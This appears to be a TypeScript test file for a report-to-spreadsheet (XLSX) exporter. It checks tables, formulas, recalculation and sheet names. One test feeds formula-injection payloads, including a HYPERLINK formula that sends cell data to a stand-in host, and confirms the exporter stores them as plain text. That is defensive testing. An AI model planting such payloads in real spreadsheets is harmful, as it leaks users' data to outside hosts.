import readWorkbook from 'read-excel-file/node';
import { describe, expect, test } from 'vitest';
import { languages } from '../../shared/base/language';
import type { Cell, ReportDocument } from '../../shared/report/document';
import { blocksOfKind } from '../../shared/report/sectionsOf';
import { reportXlsx } from '../../shared/report/xlsx/reportXlsx';
import { columnName, sheetNames } from '../../shared/report/xlsx/sheet';
import { made, questions } from '../support/madeReports';
import { asked, recalculated, type StatedCell, statedSheets } from '../support/spreadsheet';

const names = Object.keys(questions) as readonly (keyof typeof questions)[]; // the keys of the object above
const exact = (cell: Cell): string | number =>
  typeof cell === 'string' ? cell : 'value' in cell ? cell.value : cell.text;

const read = async (report: ReportDocument) => readWorkbook(Buffer.from(reportXlsx(report)));

describe.each(names)('the workbook on %s', (name) => {
  const { document: report } = made(name, 'en');
  const sheets = statedSheets(reportXlsx(report));
  const formulas = [...sheets].flatMap(([sheet, cells], at) =>
    cells.flatMap((cell) => (cell.formula === null ? [] : [{ ...cell, sheet, at, formula: cell.formula }])),
  );

  test('holds each table with its exact values, as another reader reads them', async () => {
    const found = (await read(report)).map(({ data }) => data.map((row) => row.map((value) => value ?? '')));
    const tables = blocksOfKind(report, 'table');
    for (const { rows } of [report.data, ...tables]) {
      const wanted = rows.map((row) => row.map(exact));
      const there = found.map((sheet) => sheet.slice(1, 1 + rows.length));
      expect(there).toContainEqual(wanted);
    }
  });

  test('has a formula for every headline figure that the years tell, and another engine works out the same', () => {
    const model = recalculated(sheets);
    expect(formulas.length).toBeGreaterThan(100);
    // The largest distance of all, as a share of what was stored; the engine shows no more than ten digits of a number.
    const distances = formulas.map(
      ({ sheet, row, column, value }) => `ABS('${sheet}'!${columnName(column - 1)}${row}/${value}-1)`,
    );
    expect(asked(model, `MAX(${distances.join(',')})`)).toBeLessThan(1e-12);
  });

  test('its summary has the figures of headline and key figures with their cells', () => {
    const summary = sheets.get('Summary') ?? [];
    const figures = blocksOfKind(report, 'figures').flatMap(({ items }) => items);
    const shown = [report.headline, ...figures.flatMap(({ value, note }) => [value, note])].flatMap(
      (one) => one.figures,
    );
    const at = (row: number, column: number): StatedCell | undefined =>
      summary.find((cell) => cell.row === row && cell.column === column);
    for (const { cell, value } of shown) {
      const rows = summary.filter((one) => one.column === 4 && one.value === cell).map(({ row }) => row);
      expect(
        rows.map((row) => at(row, 3)?.value),
        cell,
      ).toContain(value);
      const derivable = !/^(baseline|parameters|summary\.actuarial)/.test(cell);
      expect(
        rows.every((row) => (at(row, 3)?.formula !== null) === derivable),
        cell,
      ).toBe(true);
    }
  });
});

test('the headline of the workbook follows a change of the years', () => {
  const { document: report, input } = made('current law', 'en');
  const sheets = statedSheets(reportXlsx(report));
  const summary = sheets.get('Summary') ?? [];
  const { exhaustionYear } = input.run.outlook.summary;
  const [cell] = summary.filter(({ column, value }) => column === 4 && value === 'summary.exhaustionYear');
  const column = report.data.header.indexOf('Fund at year end');
  const model = recalculated(sheets);
  expect(asked(model, `Summary!C${cell?.row}`)).toBe(exhaustionYear);
  const years = [...sheets.keys()].indexOf('All years');
  model.setUserInput(years, Number(exhaustionYear) - input.run.projection.firstYear + 2, column + 1, '1');
  expect(asked(model, `Summary!C${cell?.row}`)).toBe(Number(exhaustionYear) + 1);
});

describe.each(languages)('the workbook in %s', (language) => {
  const { document: report } = made('current law', language);

  test('is the same file for the same report, and dated with its day', () => {
    expect(Buffer.compare(reportXlsx(report), reportXlsx(structuredClone(report)))).toBe(0);
  });

  test('has a sheet a table, each under its own name', async () => {
    const found = (await read(report)).map(({ sheet }) => sheet);
    expect(new Set(found).size).toBe(found.length);
    // Contents, summary and all years; the tables; charts, words, sources, figures and inputs.
    expect(found).toHaveLength(3 + 2 + 5);
  });

  test('takes nothing out of the document as a formula, nor lets it become one', () => {
    const bad = '=HYPERLINK("http://a.example/?"&A1,"x")';
    const label = { label: bad, value: '+1+1' };
    const poisoned = {
      ...report,
      title: bad,
      subtitle: '@SUM(1)',
      identity: [label],
      data: { ...report.data, header: report.data.header.map(() => '-2+3') },
    };
    const count = (xlsx: Uint8Array): number =>
      [...statedSheets(xlsx).values()].flat().filter(({ formula }) => formula !== null).length;
    expect(count(reportXlsx(poisoned))).toBe(count(reportXlsx(report)));
    const cells = [...statedSheets(reportXlsx(poisoned)).values()].flat();
    const found = cells.filter(({ value }) =>
      [bad, '+1+1', '@SUM(1)', '-2+3'].some((text) => String(value).startsWith(text)),
    );
    const times = (text: string): number => found.filter(({ value }) => String(value).startsWith(text)).length;
    expect([times('+1+1'), times('@SUM(1)'), times('-2+3')]).toEqual([1, 1, report.data.header.length]);
    // As title, as label, and as the heading that figures of the headline stand under.
    expect(times(bad)).toBeGreaterThan(2);
    expect(new Set(found.map(({ quoted }) => quoted))).toEqual(new Set([true]));
  });
});

test('names of sheets are such as every spreadsheet takes', () => {
  expect(sheetNames(['A/B: c?', "'quoted'", '', 'same', 'Same', 'x'.repeat(40), 'x'.repeat(40)])).toEqual([
    'A B  c',
    'quoted',
    '-',
    'same',
    'Same (2)',
    'x'.repeat(31),
    `${'x'.repeat(27)} (2)`,
  ]);
});
